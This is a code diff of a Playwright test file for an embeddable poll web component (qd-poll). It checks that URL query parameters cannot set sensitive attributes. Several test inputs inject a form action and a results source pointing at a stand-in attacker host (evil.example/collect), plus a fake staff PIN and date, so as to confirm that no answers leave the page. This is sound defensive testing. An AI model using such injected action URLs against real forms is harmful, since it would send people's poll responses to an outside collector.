@@ -128,16 +128,60 @@ describe('règles de la page (sans navigateur)', () => {
   });
 
   it('attributs : seulement ceux que l’élément observe (jamais src)', () => {
-    const r = elementAttributes(new URLSearchParams('easy=&storage=local&lang=ar&onload=x&src=y'), [
-      'src',
-      'easy',
-      'storage',
-    ]);
+    const r = elementAttributes(
+      new URLSearchParams('easy=&read-aloud=false&lang=ar&onload=x&src=y'),
+      ['src', 'easy', 'read-aloud'],
+    );
     expect(r.attributes).toEqual([
       ['easy', ''],
-      ['storage', 'local'],
+      ['read-aloud', 'false'],
     ]);
     expect(r.ignored).toEqual(['onload']);
+  });
+
+  it('attributs : la présentation seulement — jamais où vont les réponses, où elles sont gardées, ni quel jour on est', () => {
+    const observed = [
+      'src',
+      'easy',
+      'read-aloud',
+      'storage',
+      'kiosk-timeout',
+      'action',
+      'keep-ballots',
+      'kiosk',
+      'staff-pin',
+      'reset-delay',
+      'results-src',
+      'today',
+      'public-computer',
+      'centre-phone',
+    ];
+    const query =
+      'easy=&action=https://evil.example/collect&keep-ballots=&storage=local&kiosk=&kiosk-timeout=0' +
+      '&staff-pin=0000&reset-delay=1&results-src=https://evil.example/r.json&today=2099-01-01' +
+      '&public-computer=&centre-phone=0899000000&read-aloud=';
+    const r = elementAttributes(new URLSearchParams(query), observed);
+    expect(r.attributes).toEqual([
+      ['easy', ''],
+      ['read-aloud', ''],
+    ]);
+    expect(r.ignored).toEqual([
+      'action',
+      'keep-ballots',
+      'storage',
+      'kiosk',
+      'kiosk-timeout',
+      'staff-pin',
+      'reset-delay',
+      'results-src',
+      'today',
+      'public-computer',
+      'centre-phone',
+    ]);
+    // Allowed by the address, but only if the element has it.
+    expect(elementAttributes(new URLSearchParams('read-aloud='), ['easy']).ignored).toEqual([
+      'read-aloud',
+    ]);
   });
 
   it('langue, sens et origine parente', () => {
@@ -173,7 +217,7 @@ describe.each(withSamples.map((p) => [p.tag, p] as const))('page iframe de <%s>'
 
   it('?content= avec lang=ar, theme=dark et un attribut : l’exemple s’affiche de droite à gauche, sombre, sans erreur ni violation de CSP', async () => {
     const { page, problems } = await open(
-      pageUrl(`content=${first.id}&lang=ar&theme=dark&storage=session&inconnu=1`),
+      pageUrl(`content=${first.id}&lang=ar&theme=dark&easy=&storage=session&inconnu=1`),
     );
     const [r] = await waitRendered(page, p.tag);
     expect(r?.rendered).toBe(true);
@@ -182,9 +226,13 @@ describe.each(withSamples.map((p) => [p.tag, p] as const))('page iframe de <%s>'
       await page.evaluate(() => [document.documentElement.lang, document.documentElement.dir]),
     ).toEqual(['ar', 'rtl']);
     expect(r?.direction).toBe('rtl');
+    expect(await page.evaluate((t) => document.querySelector(t)?.getAttribute('easy'), p.tag)).toBe(
+      '',
+    );
+    // Where data is kept is never taken from the address.
     expect(
-      await page.evaluate((t) => document.querySelector(t)?.getAttribute('storage'), p.tag),
-    ).toBe('session');
+      await page.evaluate((t) => document.querySelector(t)?.hasAttribute('storage'), p.tag),
+    ).toBe(false);
     expect(
       await page.evaluate((t) => document.querySelector(t)?.hasAttribute('inconnu'), p.tag),
     ).toBe(false);
@@ -373,6 +421,118 @@ describe('page iframe : règles communes à tous les prototypes', () => {
       return window.scrollY;
     });
     expect(scrolled).toBeGreaterThan(0);
+    expect(problems).toEqual([]);
+    await page.close();
+  });
+});
+
+describe('page iframe de <qd-poll> : l’adresse ne dit ni où vont les réponses, ni quel jour on est', () => {
+  const poll = prototypes.find((p) => p.tag === 'qd-poll')!;
+  const pageUrl = (query: string) => `${embed}/${poll.page}?${query}`;
+
+  /** A page that records every request to evil.example (answered, so nothing else fails). */
+  async function openWatched(url: string, now?: Date) {
+    const page = await browser.newPage({ viewport: { width: 800, height: 700 } });
+    const problems = await watch(page);
+    const sent: string[] = [];
+    page.on('request', (request) => {
+      if (new URL(request.url()).hostname === 'evil.example')
+        sent.push(`${request.method()} ${request.url()}`);
+    });
+    await page.route('https://evil.example/**', (route) =>
+      route.fulfill({ status: 204, headers: { 'access-control-allow-origin': '*' } }),
+    );
+    if (now) await page.clock.setFixedTime(now);
+    await page.goto(url);
+    return { page, problems, sent };
+  }
+
+  /** The first screen the poll settles on: its intro, « closed », or something else. */
+  const firstScreen = (page: Page) =>
+    page
+      .waitForFunction(
+        () => {
+          const root = document.querySelector('qd-poll')?.shadowRoot;
+          const part = root?.querySelector('[part="intro"], [part="closed"], [role="alert"]');
+          return part ? (part.getAttribute('part') ?? 'alert') : false;
+        },
+        undefined,
+        { timeout: 15_000 },
+      )
+      .then((handle) => handle.jsonValue());
+
+  /** Answers every question (first choice, a first move, one letter) and sends, as tools/quality's walk. */
+  const vote = (page: Page) =>
+    page.evaluate(async () => {
+      const el = document.querySelector('qd-poll') as HTMLElement & {
+        updateComplete: Promise<unknown>;
+      };
+      const root = el.shadowRoot!;
+      const until = async (selector: string) => {
+        for (let i = 0; i < 400; i++) {
+          const found = root.querySelector<HTMLElement>(selector);
+          if (found) return found;
+          await new Promise((r) => setTimeout(r, 25));
+        }
+        throw new Error(`${selector} n’apparaît pas : ${root.textContent?.slice(0, 300)}`);
+      };
+      (await until('[part="intro"] .qd-button--primary')).click();
+      await until('form fieldset.qd-q');
+      for (let guard = 0; guard < 20 && root.querySelector('form fieldset.qd-q'); guard++) {
+        for (const fs of root.querySelectorAll('form fieldset.qd-q')) {
+          const text = fs.querySelector('textarea');
+          if (text) {
+            text.value = 'a';
+            text.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
+            continue;
+          }
+          const inputs = [...fs.querySelectorAll<HTMLInputElement>('input')];
+          if (!inputs.some((i) => i.checked))
+            (fs.querySelector('.qd-rank') ? inputs[inputs.length - 1] : inputs[0])?.click();
+        }
+        for (let i = 0; i < 3; i++) await el.updateComplete;
+        root.querySelector<HTMLElement>('form button[type="submit"]')!.click();
+        for (let i = 0; i < 3; i++) await el.updateComplete;
+      }
+      (await until('[part="review"] .qd-button--primary')).click();
+      await until('[part="thanks"]');
+    });
+
+  it('?action= est ignoré : en répondant, rien ne part vers un autre site, et l’élément n’a pas d’action', async () => {
+    const { page, problems, sent } = await openWatched(
+      pageUrl(
+        `content=fete-quartier-2027&lang=ar&action=${encodeURIComponent('https://evil.example/collect')}`,
+      ),
+    );
+    // Without a destination of its own the poll may refuse the vote (and say why to the author);
+    // if it takes it, nothing goes to the address's site.
+    if ((await firstScreen(page)) === 'intro') {
+      await vote(page);
+      await page.waitForTimeout(500);
+    }
+    expect(sent).toEqual([]);
+    expect(
+      await page.evaluate(() => document.querySelector('qd-poll')?.hasAttribute('action')),
+    ).toBe(false);
+    expect(
+      await page.evaluate(() => [document.documentElement.lang, document.documentElement.dir]),
+    ).toEqual(['ar', 'rtl']);
+    expect(problems).toEqual([]);
+    await page.close();
+  });
+
+  it('?today= est ignoré : un sondage ouvert aujourd’hui le reste, quelle que soit la date de l’adresse', async () => {
+    // 10 January 2027: the sample « horaires » is open (4–29 January 2027).
+    const now = new Date('2027-01-10T10:00:00+01:00');
+    const { page, problems } = await openWatched(
+      pageUrl('content=horaires-centre-social&lang=ar&today=2099-01-01'),
+      now,
+    );
+    expect(await firstScreen(page)).toBe('intro');
+    expect(
+      await page.evaluate(() => document.querySelector('qd-poll')?.hasAttribute('today')),
+    ).toBe(false);
+    expect(await page.evaluate(() => document.documentElement.dir)).toBe('rtl');
     expect(problems).toEqual([]);
     await page.close();
   });
